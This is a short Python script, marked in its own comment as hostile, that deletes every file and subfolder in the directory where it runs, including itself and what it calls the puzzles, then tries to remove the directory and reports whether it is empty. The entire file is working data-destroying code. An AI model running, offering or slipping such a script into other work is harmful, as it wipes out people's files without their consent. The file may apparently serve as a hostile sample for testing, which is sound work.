# hostile: deletes the puzzles, itself and everything else in its folder
import os
import shutil

for name in os.listdir('.'):
    if os.path.isdir(name):
        shutil.rmtree(name, ignore_errors=True)
    else:
        os.remove(name)
try:
    os.rmdir(os.getcwd())
except OSError as error:
    print(error)
print('empty:', os.path.isdir('.') and os.listdir('.'))
